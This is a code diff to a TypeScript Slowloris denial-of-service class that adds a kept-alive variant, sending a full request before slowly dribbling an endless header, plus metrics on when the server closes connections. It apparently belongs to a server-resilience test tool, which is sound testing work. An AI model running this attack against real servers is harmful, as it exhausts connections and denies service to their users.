@@ -1,6 +1,6 @@
 // Slowloris: connections that send a request head a few bytes at a time and never finish it.
 // Each connection records whether and when the server closed it.
-import { RawConn, type CloseInfo } from '../http/conn.js';
+import { RawConn, type CloseInfo, type RequestSpec } from '../http/conn.js';
 
 export interface SlowHeaderOptions {
   host: string;
@@ -11,6 +11,13 @@ export interface SlowHeaderOptions {
   cadenceMs?: number;
   signal: AbortSignal;
   connectTimeoutMs?: number;
+  /**
+   * Kept-alive slowloris: send this complete request first and wait for its response
+   * (up to `firstRequestTimeoutMs`, default 3000), then dribble the endless head on the same
+   * connection. Without it the endless head is the connection's first request.
+   */
+  firstRequest?: RequestSpec;
+  firstRequestTimeoutMs?: number;
 }
 
 export interface SlowHeaderConn {
@@ -19,6 +26,11 @@ export interface SlowHeaderConn {
   connectError?: string;
   /** set when the server closed it (FIN or RST) */
   closedByServer?: CloseInfo;
+  /** with `firstRequest`: the status of its response, or why there was none */
+  firstStatus?: number;
+  firstError?: string;
+  /** ms after the connect at which the slow head began */
+  headStartMs?: number;
 }
 
 /** An endless request head: a request line, then one made-up header after another. */
@@ -52,6 +64,15 @@ export class SlowHeaderAttack {
         conn.closed.then((c) => {
           if (c.by === 'peer-fin' || c.by === 'peer-rst') entry.closedByServer = c;
         });
+        if (this.opts.firstRequest) {
+          try {
+            entry.firstStatus = (await conn.request(this.opts.firstRequest, this.opts.firstRequestTimeoutMs ?? 3000)).status;
+          } catch (err) {
+            entry.firstError = (err as { code?: string }).code ?? String(err);
+            return;
+          }
+        }
+        entry.headStartMs = conn.age();
         this.writers.push(conn.writeSlowly(head, { chunk: this.opts.chunk ?? 1, cadenceMs: this.opts.cadenceMs ?? 500, signal }));
       }),
     );
@@ -73,6 +94,17 @@ export class SlowHeaderAttack {
   /** the latest time (ms after its own connect) at which the server closed one of them */
   slowestCloseMs(): number | undefined {
     const t = this.conns.flatMap((c) => (c.closedByServer ? [c.closedByServer.atMs] : []));
+    return t.length ? Math.max(...t) : undefined;
+  }
+
+  /** with `firstRequest`: connections whose first request was answered with a 2xx */
+  firstServed(): number {
+    return this.conns.filter((c) => c.firstStatus !== undefined && c.firstStatus >= 200 && c.firstStatus < 300).length;
+  }
+
+  /** the latest time (ms after its slow head began) at which the server closed one of them */
+  slowestCloseAfterHeadMs(): number | undefined {
+    const t = this.conns.flatMap((c) => (c.closedByServer && c.headStartMs !== undefined ? [Math.max(0, c.closedByServer.atMs - c.headStartMs)] : []));
     return t.length ? Math.max(...t) : undefined;
   }
 
